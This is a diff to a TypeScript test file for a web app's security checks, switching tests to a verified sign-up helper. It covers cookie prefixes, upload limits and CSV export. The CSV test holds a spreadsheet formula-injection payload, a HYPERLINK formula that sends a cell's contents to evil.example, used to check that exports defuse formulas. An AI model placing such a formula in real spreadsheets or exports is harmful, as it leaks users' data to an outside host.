@@ -1,7 +1,8 @@
 import { connect, type Socket } from 'node:net';
 import { afterEach, describe, expect, it } from 'vitest';
 import { LIMITS } from '../../src/domain/constants';
-import { GOOD_PASSWORD, signUp } from '../support/auth';
+import { GOOD_PASSWORD } from '../support/auth';
+import { signUpVerified } from '../support/accounts';
 import { TINY_PNG } from '../support/multipart';
 import { createTestApp, tableCounts, type TestApp } from '../support/testApp';
 
@@ -78,7 +79,7 @@ describe('TRUST_PROXY with a hop count', () => {
 describe('session cookie prefix', () => {
   it('on https is __Host-beacon_session (Secure, Path=/, no Domain) and a planted unprefixed cookie counts for nothing', async () => {
     const { app } = await start({ PUBLIC_URL: 'https://portal.example.com', AUTH_RATE_LIMIT_PER_MINUTE: '10000' });
-    const { res, cookie } = await signUp(app, 'host@example.com');
+    const { res, cookie } = await signUpVerified(app, 'host@example.com');
     const set = res.cookies.find((c) => c.name === '__Host-beacon_session');
     expect(set).toMatchObject({ secure: true, path: '/', httpOnly: true });
     expect(set?.domain).toBeUndefined();
@@ -95,7 +96,7 @@ describe('session cookie prefix', () => {
 
   it('on plain http stays beacon_session without Secure (a __Host- cookie would be refused there)', async () => {
     const { app } = await start({ PUBLIC_URL: 'http://localhost:3000', AUTH_RATE_LIMIT_PER_MINUTE: '10000' });
-    const { res, cookie } = await signUp(app, 'plain@example.com');
+    const { res, cookie } = await signUpVerified(app, 'plain@example.com');
     expect(res.cookies.find((c) => c.name === 'beacon_session')).toMatchObject({ path: '/', httpOnly: true });
     expect(res.cookies.find((c) => c.name === 'beacon_session')?.secure).toBeFalsy();
     expect(cookie.startsWith('beacon_session=')).toBe(true);
@@ -138,7 +139,7 @@ describe('oversize multipart uploads', () => {
 
   async function setUp() {
     const { app } = await start({ AUTH_RATE_LIMIT_PER_MINUTE: '10000' });
-    const { res, cookie } = await signUp(app, 'upload@example.com');
+    const { res, cookie } = await signUpVerified(app, 'upload@example.com');
     const path = `/api/v1/users/${res.json().payload._id as string}`;
     const port = await listen(app);
     const me = async () => (await app.inject({ method: 'GET', url: '/api/v1/auth/me', headers: { cookie } })).json().payload;
@@ -219,7 +220,7 @@ function parseCsv(text: string): string[][] {
 describe('CSV export', () => {
   it('defuses every cell a spreadsheet would run as a formula (=, +, -, @, tab, carriage return)', async () => {
     const { app } = await start({ AUTH_RATE_LIMIT_PER_MINUTE: '10000' });
-    const admin = await signUp(app, 'root@example.com');
+    const admin = await signUpVerified(app, 'root@example.com');
     await app.database.rows(`update users set is_admin = true where email = 'root@example.com'`);
     // A formula typed into the sign-up form, and the rest as they could arrive from any source.
     const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
